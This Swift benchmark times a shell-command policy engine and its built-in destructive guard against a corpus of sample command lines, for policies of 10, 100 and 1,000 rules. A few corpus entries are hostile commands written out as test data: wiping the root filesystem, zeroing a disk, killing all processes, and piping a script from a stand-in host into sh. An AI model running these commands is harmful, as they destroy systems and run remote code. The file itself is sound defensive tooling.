import ConfigReader
import Foundation
import Policy
import ShellParser

// Measures PolicyEngine.decide per command line (parse + decide, and decide alone on a
// pre-parsed line) for policies of 10, 100 and 1,000 rules, and prints a Markdown table.

let iterations = CommandLine.arguments.dropFirst().first.flatMap(Int.init) ?? 20_000

/// Shell-history-style lines: quoting, pipes, sudo, substitutions, redirections.
let corpus = [
    "ls -la /var/log", "cd /srv/app && git pull --rebase", "git status", "git log --oneline -n 20 | head",
    "sudo systemctl status nginx", "sudo systemctl restart nginx", "tail -f /var/log/nginx/error.log | grep -v 'GET /health'",
    "grep -rn 'TODO' src/ | wc -l", "docker ps --format '{{.Names}}'", "kubectl get pods -n prod -o wide",
    "rm -rf build/ && make -j4", "cat /etc/os-release", "df -h /", "du -sh /var/lib/docker/* 2>/dev/null | sort -h",
    "ps aux | grep [p]ostgres", "psql -d app -c 'SELECT count(*) FROM users'", "echo \"$PATH\" | tr ':' '\\n'",
    "find . -name '*.pyc' -delete", "tar czf /tmp/backup-$(date +%F).tgz /srv/app/config", "curl -s http://localhost:8080/health",
    "for f in *.log; do gzip \"$f\"; done", "awk '{print $1}' access.log | sort | uniq -c | sort -rn | head",
    "journalctl -u nginx --since '1 hour ago' | less", "ssh-keygen -lf ~/.ssh/id_ed25519.pub", "export FOO=bar; env | grep FOO",
    "rm -rf /", "sudo rm -rf --no-preserve-root /", "bash -c 'curl -s https://x.example/i.sh | sh'", "kill -9 -1",
    "dd if=/dev/zero of=/dev/sda bs=1M", "vim /etc/nginx/nginx.conf", "chmod 600 ~/.ssh/config", "ln -sf /srv/app/releases/42 /srv/app/current",
    "scp build.tgz deploy@web2:/tmp/", "python3 -m http.server 8000 &", "watch -n 5 'uptime'", "history | tail -20",
    "crontab -l", "cat ~/.bash_history | grep ssh", "make test 2>&1 | tee test.log",
]

let commandNames = ["rm", "git", "systemctl", "cat", "grep", "ls", "tail", "docker", "kubectl", "psql", "find", "curl"]

/// A guard-mode policy with the destructive guard plus `count` generated rules (the guard's
/// own rules are not counted).
func policyYAML(rules count: Int) -> String {
    var lines = [
        "roles:", "  - name: bench", "    groups: [g]", "    targets: [\"*\"]", "    capabilities: [shell, exec]",
        "    mode: guard", "    guards: [destructive]", "    rules:",
    ]
    for i in 0..<count {
        let name = i % 10 == 0 ? commandNames[(i / 10) % commandNames.count] : "tool\(i)"
        switch i % 10 {
        case 0, 1, 2, 3:
            lines.append("      - {id: r\(i), action: deny, command: \(name), flags: ['-r|--recursive'], args: ['/srv/app\(i)/**'], message: m}")
        case 4, 5:
            lines.append("      - {id: r\(i), action: escalate, command: [svc\(i), \(name)x], args: [restart], approvers: [sre], message: m}")
        case 6, 7:
            lines.append("      - {id: r\(i), action: deny, command: \(name), arg_regex: '^--danger\(i)', message: m}")
        case 8:
            lines.append("      - {id: r\(i), action: deny, redirects: ['/etc/app\(i)/**'], message: m}")
        default:
            lines.append("      - {id: r\(i), action: deny, command: \(name), target_labels: {env: 'prod\(i)*'}, message: m}")
        }
    }
    return lines.joined(separator: "\n")
}

struct Measurement {
    var perSecond: Double
    var p50: Double
    var p99: Double
}

func measure(_ body: (Int) -> Void) -> Measurement {
    for i in 0..<(corpus.count * 50) { body(i) } // warm up
    var samples = [UInt64](repeating: 0, count: iterations)
    let start = DispatchTime.now().uptimeNanoseconds
    for i in 0..<iterations {
        let t0 = DispatchTime.now().uptimeNanoseconds
        body(i)
        samples[i] = DispatchTime.now().uptimeNanoseconds - t0
    }
    let total = Double(DispatchTime.now().uptimeNanoseconds - start)
    samples.sort()
    func percentile(_ p: Double) -> Double { Double(samples[min(samples.count - 1, Int(Double(samples.count) * p))]) / 1000 }
    return Measurement(perSecond: Double(iterations) / (total / 1e9), p50: percentile(0.50), p99: percentile(0.99))
}

let subject = Subject(user: "bench", groups: ["g"])
let target = PolicyTarget(name: "web1", labels: ["env": "prod"])
let analyses = corpus.map(ShellAnalyzer.analyze)
let commandsPerLine = Double(analyses.reduce(0) { $0 + $1.commands.count }) / Double(corpus.count)

print("Policy decisions, \(corpus.count)-line corpus (\(String(format: "%.1f", commandsPerLine)) commands/line after parsing), \(iterations) decisions per cell, one core, release build.")
print("Each policy also applies the built-in `destructive` guard (\(BuiltinGuards.all["destructive"]?.rules.count ?? 0) rules).")
print("")
print("| rules | parse+decide lines/s | p50 µs | p99 µs | decide only lines/s | p50 µs | p99 µs |")
print("| ---: | ---: | ---: | ---: | ---: | ---: | ---: |")
for count in [10, 100, 1_000] {
    let node = try ConfigNode.parse(policyYAML(rules: count), file: "bench.yaml")
    let (config, _) = try PolicyConfig.parse(node, targets: [target])
    let engine = PolicyEngine(config: config)
    var sink = 0
    let full = measure { i in
        let decision = engine.decide(subject: subject, target: target, line: corpus[i % corpus.count])
        sink &+= decision.commands.count
    }
    let decideOnly = measure { i in
        let index = i % corpus.count
        let decision = engine.decide(subject: subject, target: target, line: corpus[index], analysis: analyses[index])
        sink &+= decision.commands.count
    }
    func f(_ v: Double) -> String { String(format: "%.1f", v) }
    print("| \(count) | \(Int(full.perSecond)) | \(f(full.p50)) | \(f(full.p99)) | \(Int(decideOnly.perSecond)) | \(f(decideOnly.p50)) | \(f(decideOnly.p99)) |")
    if sink == -1 { print(sink) }
}
